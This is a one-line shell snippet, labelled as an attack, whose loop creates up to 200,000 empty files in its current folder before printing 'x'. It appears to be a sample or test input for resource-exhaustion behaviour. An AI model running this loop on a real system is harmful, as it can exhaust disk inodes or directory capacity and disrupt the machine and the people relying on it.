# attack: fills its folder with files without content
i=0; while [ $i -lt 200000 ]; do : > f$i || break; i=$((i+1)); done; echo x
